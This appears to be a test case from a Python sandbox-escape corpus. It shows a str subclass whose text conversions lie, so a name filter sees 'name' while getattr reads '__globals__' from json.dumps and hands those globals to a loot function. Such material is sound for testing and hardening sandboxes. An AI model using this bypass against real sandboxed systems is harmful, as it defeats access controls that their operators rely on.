# aim: use a name that turns into another text when converted
# mechanism: __str__ of a str subclass
# language: builtins
# reason: the name that was checked must be the name that is read
# jail: process
# plain: loot

import json


class Liar(str):
    def __str__(self):
        return "name"

    __repr__ = __str__

    def __format__(self, specification):
        return "name"


loot(getattr(json.dumps, Liar("__globals__")))
